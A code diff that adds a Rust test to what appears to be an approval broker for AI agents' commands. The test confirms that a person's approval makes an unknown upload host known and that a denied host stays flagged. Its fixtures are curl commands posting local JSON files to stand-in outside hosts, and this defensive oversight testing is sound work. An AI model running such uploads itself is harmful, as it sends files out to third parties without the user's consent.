@@ -282,3 +282,46 @@ async fn a_persons_decision_reaches_the_next_similar_review() {
     let seen = llm_state.seen.lock().unwrap();
     assert!(fenced(&seen[2]).get("earlier_decisions").is_none());
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_person_approving_an_upload_to_an_unknown_host_makes_it_known() {
+    use airlock_core::ReasonCode;
+    let d = tempfile::tempdir().unwrap();
+    let b = broker_at(
+        d.path(),
+        None,
+        policy("[hosts]\nknown = [\"api.github.com\"]\n"),
+        BrokerConfig::default(),
+    )
+    .await;
+    let up = "curl -d @report.json https://collector.example.net/upload";
+    let first = b.submit(sub("claude", "s1", up)).await.unwrap();
+    assert_eq!(first.decision, Decision::Ask, "{first:?}");
+    assert!(
+        first.reasons.iter().any(|f| f.code == ReasonCode::UnknownHost),
+        "{:?}",
+        first.reasons
+    );
+    // another unknown host, asked and denied: stays unknown
+    let other = b
+        .submit(sub("claude", "s1", "curl -d @r.json https://drop.example.org/x"))
+        .await
+        .unwrap();
+    b.answer(&other.approval.unwrap(), deny("alice", "not ours"))
+        .await
+        .unwrap();
+    b.answer(&first.approval.unwrap(), approve("alice"))
+        .await
+        .unwrap();
+    let again = b.submit(sub("claude", "s2", up)).await.unwrap();
+    assert!(
+        !again.reasons.iter().any(|f| f.code == ReasonCode::UnknownHost),
+        "{:?}",
+        again.reasons
+    );
+    let denied = b
+        .submit(sub("claude", "s2", "curl -d @r.json https://drop.example.org/x"))
+        .await
+        .unwrap();
+    assert!(denied.reasons.iter().any(|f| f.code == ReasonCode::UnknownHost));
+}
